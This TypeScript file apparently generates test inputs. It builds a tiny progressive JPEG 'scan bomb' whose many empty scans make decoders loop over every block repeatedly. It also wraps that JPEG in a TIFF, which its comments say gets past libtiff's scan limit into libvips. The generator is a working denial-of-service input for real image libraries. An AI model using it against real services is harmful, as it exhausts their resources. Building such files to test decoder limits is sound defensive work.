/**
 * A progressive greyscale JPEG whose scans carry nothing: after one DC scan of all-zero coefficients,
 * `scans` AC scans that each hold a few runs of end-of-block codes (a few bytes for the whole image). A
 * decoder still passes over every block once per scan, so time grows with scans × blocks while the file
 * stays small: the shape of the "progressive JPEG with numerous scans" denial of service libjpeg-turbo's
 * djpeg -maxscans and libtiff's scan limit guard against. A valid stream otherwise: it decodes to mid-grey.
 */

/** EOB run lengths as EOBn codes: run = 2^n + extra (n bits), n ≤ 14. */
function eobRuns(blocks: number): { n: number; extra: number }[] {
  const out: { n: number; extra: number }[] = [];
  let left = blocks;
  while (left > 0) {
    const run = Math.min(left, 32767);
    const n = Math.floor(Math.log2(run));
    out.push({ n, extra: run - 2 ** n });
    left -= run;
  }
  return out;
}

export function jpegScanBomb(width: number, height: number, scans: number): Buffer {
  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];
  const segment = (marker: number, body: number[]) => {
    const b = Buffer.alloc(4 + body.length);
    b[0] = 0xff;
    b[1] = marker;
    b.writeUInt16BE(body.length + 2, 2);
    Buffer.from(body).copy(b, 4);
    parts.push(b);
  };
  const bits = (values: number[]) => {
    const padded = [...values];
    while (padded.length % 8) padded.push(1);
    const out: number[] = [];
    for (let i = 0; i < padded.length; i += 8) {
      const byte = padded.slice(i, i + 8).reduce((acc, bit) => (acc << 1) | bit, 0);
      out.push(byte);
      if (byte === 0xff) out.push(0x00);
    }
    return Buffer.from(out);
  };
  segment(0xdb, [0x00, ...new Array(64).fill(1)]);
  segment(0xc2, [8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  // DC table 0: category 0 as the one-bit code '0'. AC table 0: EOB0…EOB14 as 4-bit codes 0000…1110.
  segment(0xc4, [0x00, 1, ...new Array(15).fill(0), 0x00]);
  segment(0xc4, [0x10, 0, 0, 0, 15, ...new Array(12).fill(0), ...Array.from({ length: 15 }, (_, n) => n << 4)]);
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  segment(0xda, [1, 1, 0x00, 0, 0, 0x00]);
  parts.push(bits(new Array(blocks).fill(0)));
  const runs: number[] = [];
  for (const { n, extra } of eobRuns(blocks)) {
    for (let b = 3; b >= 0; b--) runs.push((n >> b) & 1);
    for (let b = n - 1; b >= 0; b--) runs.push((extra >> b) & 1);
  }
  const ac = bits(runs);
  for (let s = 0; s < scans; s++) {
    segment(0xda, [1, 1, 0x00, 1, 63, 0x00]);
    parts.push(ac);
  }
  parts.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}

/**
 * A little-endian TIFF of one greyscale tile (or strip) holding `jpeg` (Compression 7) of `width`×`height`:
 * how a scan bomb reaches a decoder inside a TIFF. libvips decodes JPEG tiles itself, without libtiff's
 * limit of 100 scans per strip.
 */
export function tiffAroundJpeg(jpeg: Buffer, width: number, height: number, layout: 'tile' | 'strip'): Buffer {
  const tags: [number, number, number][] = [
    [256, 3, width],
    [257, 3, height],
    [258, 3, 8],
    [259, 3, 7],
    [262, 3, 1],
    [277, 3, 1],
    ...(layout === 'tile'
      ? ([
          [322, 3, width],
          [323, 3, height],
          [324, 4, 0],
          [325, 4, jpeg.length],
        ] as [number, number, number][])
      : ([
          [273, 4, 0],
          [278, 3, height],
          [279, 4, jpeg.length],
        ] as [number, number, number][])),
  ].sort((a, b) => a[0] - b[0]) as [number, number, number][];
  const ifdAt = 8;
  const ifdSize = 2 + tags.length * 12 + 4;
  const dataAt = ifdAt + ifdSize;
  const out = Buffer.alloc(dataAt + jpeg.length);
  out.write('II', 0, 'latin1');
  out.writeUInt16LE(42, 2);
  out.writeUInt32LE(ifdAt, 4);
  out.writeUInt16LE(tags.length, ifdAt);
  tags.forEach(([tag, type, value], k) => {
    const at = ifdAt + 2 + 12 * k;
    out.writeUInt16LE(tag, at);
    out.writeUInt16LE(type, at + 2);
    out.writeUInt32LE(1, at + 4);
    const v = tag === 324 || tag === 273 ? dataAt : value;
    if (type === 3) out.writeUInt16LE(v, at + 8);
    else out.writeUInt32LE(v, at + 8);
  });
  out.writeUInt32LE(0, ifdAt + 2 + tags.length * 12);
  jpeg.copy(out, dataAt);
  return out;
}
